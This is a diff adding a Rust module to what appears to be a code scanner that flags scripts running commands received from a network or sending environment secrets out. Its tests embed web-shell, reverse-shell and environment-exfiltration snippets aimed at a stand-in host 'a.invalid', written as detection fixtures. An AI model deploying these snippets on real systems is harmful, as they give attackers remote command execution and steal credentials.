@@ -1,0 +1,203 @@
+//! What other machines say to a script: commands that it runs as they come, and addresses that carry off what is the person's.
+
+use super::flow::{Flow, name, names};
+use super::lex::{Placed, Token};
+use super::sinks::{Called, inside};
+use super::taint::Taint;
+use super::words::{self, has};
+use super::{Language, Told};
+use crate::rules::shell as rules;
+
+/// What a server's code calls the request that it answers.
+const REQUESTS: &[&str] = &["request", "req", "self.request"];
+
+/// What such a request holds that who asks has written.
+const PARTS: &[&str] = &[
+    "args",
+    "form",
+    "json",
+    "values",
+    "data",
+    "body",
+    "query",
+    "query_params",
+    "get_json",
+    "get_data",
+    "POST",
+    "GET",
+    "text",
+    "raw_post",
+];
+
+/// Words of PHP's for the same.
+const OF_PHP: &[&str] = &["$_GET", "$_POST", "$_REQUEST", "$_COOKIE"];
+
+/// What a server of Ruby's is made with, by whose name its requests are known.
+const SERVERS: &[&str] = &["sinatra", "sinatra/base", "rack", "webrick", "roda", "hanami"];
+
+impl Flow<'_> {
+    /// What the path `path`, whose first name is `own`, brings in of what a server is asked.
+    pub(super) fn asked_of_server(&self, own: &str, path: &str) -> Taint {
+        let is_part = |rest: &str| PARTS.contains(&rest.split(['.', '[', '(']).next().unwrap_or_default());
+        let of_request = || {
+            let rest = |owner: &&str| path.strip_prefix(*owner)?.strip_prefix('.');
+            REQUESTS.iter().find_map(rest).is_some_and(is_part)
+        };
+        let is_asked = match self.language {
+            Language::Php => OF_PHP.contains(&own),
+            Language::Python => path.contains("rfile.read") || of_request(),
+            Language::Ruby => of_request() || own == "params" && self.is_server(),
+            _ => false,
+        };
+        if is_asked { Taint::ANSWERED } else { Taint::default() }
+    }
+
+    fn is_server(&self) -> bool {
+        self.lexed
+            .tokens
+            .iter()
+            .any(|placed| matches!(&placed.token, Token::Text(text) if SERVERS.contains(&text.as_str())))
+    }
+
+    /// A line between backticks that another machine has written, or that takes along what is the person's.
+    pub(super) fn commanded(&self, line: &str, at: usize, told: &mut Told<'_, '_>) {
+        if !self.last {
+            return;
+        }
+        let line = line.trim();
+        let mut holes =
+            line.split("${").skip(1).filter_map(|piece| piece.split_once('}')).map(|(name, _)| self.of_hole(name));
+        if line.starts_with("${") && holes.next().is_some_and(|taint| taint.has(Taint::FETCHED.and(Taint::ANSWERED))) {
+            return told.tell(&rules::PIPE, at, "what another machine sends is run as a command", None);
+        }
+        let fetches = line.split_whitespace().next().is_some_and(words::is_fetcher);
+        if fetches && holes.any(|taint| taint.has(Taint::ENVIRONMENT.and(Taint::SECRET))) {
+            told.tell(&rules::EXFIL, at, "what is the person's is sent by a command", Some(told.taken()));
+        }
+    }
+
+    fn of_hole(&self, name: &str) -> Taint {
+        let own = name.split(['.', '[', '(', ' ']).next().unwrap_or(name);
+        let known = |name: &str| self.taints.get(name).copied().unwrap_or_default();
+        known(own).and(known(&format!("${own}"))).and(self.asked_of_server(own, name))
+    }
+
+    /// Whether the environment or a secret is part of the address that a client asks for.
+    fn asks_made_address(&self, call: &Called<'_>, tokens: &[Placed]) -> bool {
+        let is_client = words::CLIENTS.iter().any(|start| call.path.starts_with(start));
+        if !matches!(call.last, "get" | "head") || !is_client && !has(words::FETCHES, call.path, call.last) {
+            return false;
+        }
+        let rest = tokens.get(call.next..).unwrap_or_default();
+        self.taint(inside(rest)).has(Taint::ENVIRONMENT.and(Taint::SECRET))
+    }
+
+    /// Whether a call sends what it is given: to print is to send only where it is said where to.
+    pub(super) fn is_sent(&self, call: &Called<'_>, tokens: &[Placed]) -> bool {
+        let rest = tokens.get(call.next..).unwrap_or_default();
+        let is_shown = self.language == Language::Python
+            && call.path == "print"
+            && !names(inside(rest)).any(|name| name == "file");
+        !is_shown && has(words::SENDS, call.path, call.last)
+            || self.asks_made_name(call, tokens)
+            || self.asks_made_address(call, tokens)
+    }
+
+    /// Perl's `while (<$socket>)`: each line is `$_`.
+    pub(super) fn reads_lines(&mut self, tokens: &[Placed]) {
+        let begins = tokens.first().and_then(|placed| name(&placed.token));
+        if self.language != Language::Perl || !matches!(begins, Some("while" | "for" | "foreach")) {
+            return;
+        }
+        let handle = tokens.windows(3).find_map(|three| match three {
+            [open, Placed { token: Token::Name(handle), .. }, close]
+                if open.token == Token::Sign('<') && close.token == Token::Sign('>') =>
+            {
+                self.taints.get(handle)
+            }
+            _ => None,
+        });
+        if let Some(taint) = handle.copied() {
+            let known = self.taints.entry("$_".to_owned()).or_default();
+            *known = known.and(taint);
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::finding::Severity;
+    use crate::interpreted::tests::of;
+
+    #[test]
+    fn commands_of_other_machines_are_a_danger_in_every_language() {
+        for (by, path, text) in [
+            (
+                "python3",
+                "a.py",
+                "from http.server import BaseHTTPRequestHandler, HTTPServer\nimport subprocess\nclass H(BaseHTTPRequestHandler):\n    def do_POST(self):\n        n = int(self.headers['Content-Length'])\n        out = subprocess.check_output(self.rfile.read(n), shell=True)\n        self.wfile.write(out)\nHTTPServer(('0.0.0.0', 8000), H).serve_forever()\n",
+            ),
+            (
+                "python3",
+                "a.py",
+                "from flask import Flask, request\nimport os\napp = Flask(__name__)\n@app.route('/run')\ndef run():\n    return os.popen(request.args['c']).read()\napp.run()\n",
+            ),
+            (
+                "ruby",
+                "a.rb",
+                "require 'socket'\ns = TCPSocket.new('a.invalid', 1)\nwhile line = s.gets\n  s.puts `#{line}`\nend\n",
+            ),
+            ("ruby", "a.rb", "require 'sinatra'\npost '/run' do\n  `#{request.body.read}`\nend\n"),
+            ("ruby", "a.rb", "require 'sinatra'\nget('/run') { system(params[:c]) }\n"),
+            (
+                "ruby",
+                "a.rb",
+                "require 'webrick'\ns = WEBrick::HTTPServer.new(Port: 8000)\ns.mount_proc('/') { |req, res| res.body = `#{req.query['c']}` }\ns.start\n",
+            ),
+            (
+                "perl",
+                "a.pl",
+                "use IO::Socket;\nmy $s = IO::Socket::INET->new('a.invalid:1');\nwhile (<$s>) { print $s `$_`; }\n",
+            ),
+            ("php", "a.php", "<?php system($_GET['c']);"),
+            ("php", "a.php", "<?php passthru($_POST['x']);"),
+            (
+                "php",
+                "a.php",
+                "<?php\n$s = stream_socket_client('tcp://a.invalid:1'); while ($l = fgets($s)) { fwrite($s, shell_exec($l)); }",
+            ),
+            (
+                "perl",
+                "a.pl",
+                "my $q = '';\nforeach my $k (keys %ENV) { $q .= \"$k=$ENV{$k}&\" }\n`curl http://a.invalid/?$q`;\n",
+            ),
+            (
+                "perl",
+                "a.pl",
+                "use HTTP::Tiny;\nHTTP::Tiny->new->get('http://a.invalid/?' . join '&', map { \"$_=$ENV{$_}\" } keys %ENV);\n",
+            ),
+        ] {
+            assert_eq!(of(by, path, text), Some(Severity::Danger), "{text}");
+        }
+    }
+
+    #[test]
+    fn a_server_may_start_programs_of_its_own() {
+        for (by, path, text) in [
+            (
+                "python3",
+                "a.py",
+                "from flask import Flask, request\nimport subprocess\napp = Flask(__name__)\n@app.route('/log')\ndef log():\n    return subprocess.run(['git', 'log', '-n', request.args['n']], capture_output=True).stdout\napp.run()\n",
+            ),
+            ("ruby", "a.rb", "require 'sinatra'\nget('/log') { `git log -n 5` }\n"),
+            ("php", "a.php", "<?php echo htmlspecialchars($_GET['c']); system('git log -n 5');"),
+            (
+                "python3",
+                "a.py",
+                "import os, requests\nenv = os.environ.copy()\nprint(requests.get('https://api.example.com/v/' + os.path.basename(os.getcwd())).text)\n",
+            ),
+        ] {
+            assert!(of(by, path, text).is_none_or(|severity| severity < Severity::Danger), "{text}");
+        }
+    }
+}
